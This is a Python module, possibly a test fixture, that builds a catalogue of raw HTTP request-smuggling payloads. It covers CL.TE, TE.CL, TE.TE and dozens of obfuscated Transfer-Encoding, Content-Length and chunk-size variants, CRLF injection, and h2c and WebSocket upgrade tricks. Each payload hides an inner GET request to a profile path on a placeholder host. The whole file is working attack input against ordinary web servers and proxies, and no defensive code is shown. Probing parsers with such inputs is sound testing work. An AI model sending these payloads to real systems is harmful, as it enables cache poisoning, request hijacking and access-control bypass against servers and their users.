"""Requests with another one inside, for a server behind that reads their length another way."""

INSIDE = "/v1/profiles/smuggled-77"
INNER = f"GET {INSIDE} HTTP/1.1\r\nHost: shop\r\n\r\n"
JSON = "Content-Type: application/json"
CHUNKED = "Transfer-Encoding: chunked"
END = "0\r\n\r\n"
ALL = f"Content-Length: {len(INNER)}"
WHOLE = f"{len(INNER):x}\r\n{INNER}\r\n{END}"  # as a chunk, of which nothing is left over


def _post(*lines: str, body: str = INNER, path: str = "/v1/products:batch") -> bytes:
    return "\r\n".join([f"POST {path} HTTP/1.1", "Host: shop", JSON, *lines, "", body]).encode()


def _obscured(line: str) -> bytes:
    """A length of the whole, and an encoding that one of two servers may overlook."""
    return _post(f"Content-Length: {len(END + INNER)}", line, body=END + INNER)


REQUESTS = {
    "CL.TE": _post(f"Content-Length: {len(END + INNER)}", CHUNKED, body=END + INNER),
    "TE.CL": _post(CHUNKED, "Content-Length: 4", body=WHOLE),
    "CL.TE on a GET": _post(
        f"Content-Length: {len(END + INNER)}", CHUNKED, body=END + INNER
    ).replace(b"POST /v1/products:batch", b"GET /v1/products"),
    "TE.TE, twice": _obscured(f"{CHUNKED}\r\nTransfer-Encoding: identity"),
    "TE.TE, another first": _obscured("Transfer-Encoding: x\r\nTransfer-encoding: chunked"),
    "TE, listed": _obscured("Transfer-Encoding: gzip, chunked"),
    "TE, chunked twice": _obscured("Transfer-Encoding: chunked, chunked"),
    "TE, a space before the colon": _obscured("Transfer-Encoding : chunked"),
    "TE, a tab before the value": _obscured("Transfer-Encoding:\tchunked"),
    "TE, a line folded": _obscured("Transfer-Encoding:\r\n chunked"),
    "TE, at the line's begin a space": _obscured(" Transfer-Encoding: chunked"),
    "TE, in capitals": _obscured("TRANSFER-ENCODING: CHUNKED"),
    "TE, quoted": _obscured('Transfer-Encoding: "chunked"'),
    "TE, a vertical tab": _obscured("Transfer-Encoding: \x0bchunked"),
    "TE, a null": _obscured("Transfer-Encoding: chunked\0"),
    "TE, a letter more": _obscured("Transfer-Encoding: xchunked"),
    "TE, an underscore": _obscured("Transfer_Encoding: chunked"),
    "TE, behind a bare LF": _obscured(f"X-A: b\n{CHUNKED}"),
    "TE, behind a bare CR": _obscured(f"X-A: b\r{CHUNKED}"),
    "TE, of HTTP/1.0": _obscured(CHUNKED).replace(b"HTTP/1.1", b"HTTP/1.0", 1),
    "CL twice, both 0 and all": _post("Content-Length: 0", ALL),
    "CL twice, both all and 0": _post(ALL, "Content-Length: 0"),
    "CL, listed": _post(f"Content-Length: 0, {len(INNER)}"),
    "CL, a plus": _post(f"Content-Length: +{len(INNER)}"),
    "CL, a minus": _post("Content-Length: -1"),
    "CL, in hexadecimal": _post(f"Content-Length: {len(INNER):#x}"),
    "CL, beyond 64 bits": _post(f"Content-Length: {2**64 + len(INNER)}"),
    "CL, a space inside": _post(f"Content-Length: 0 {len(INNER)}"),
    "CL, a space before the colon": _post(f"Content-Length : {len(INNER)}"),
    "chunk, a size beyond 64 bits": _post(CHUNKED, body=f"{2**64:x}\r\n{INNER}"),
    "chunk, a negative size": _post(CHUNKED, body=f"-1\r\n{INNER}"),
    "chunk, a size with a prefix": _post(CHUNKED, body=f"0x0\r\n\r\n{INNER}"),
    "chunk, ended by a bare LF": _post(CHUNKED, body=f"2\n{{}}\n0\nX\n{INNER}"),
    "chunk, an extension with a bare LF": _post(CHUNKED, body=f"2;\n{{}}\r\nx{END}{INNER}"),
    "a bare LF in the request line": _post().replace(b" HTTP/1.1", f"\n{INNER}".encode(), 1),
    "an encoded line end in the path": _post(ALL, path=f"/v1/x%0d%0a%0d%0aGET%20{INSIDE}"),
    "a space in the path": _post(ALL, path=f"/v1/x HTTP/1.1 GET {INSIDE}"),
    "an encoded line end in a header": _post(ALL, f"X-A: b%0d%0a%0d%0a{INNER.splitlines()[0]}"),
    "Expect and no body": _post("Expect: 100-continue", "Content-Length: 0", CHUNKED),
    "an upgrade to h2c": _post(
        "Connection: Upgrade, HTTP2-Settings",
        "Upgrade: h2c",
        "HTTP2-Settings: AAMAAABkAAQCAAAAAAIAAAAA",
        ALL,
    ),
    "an upgrade to a WebSocket": _post(
        "Connection: Upgrade",
        "Upgrade: websocket",
        "Sec-WebSocket-Version: 13",
        ALL,
    ),
}
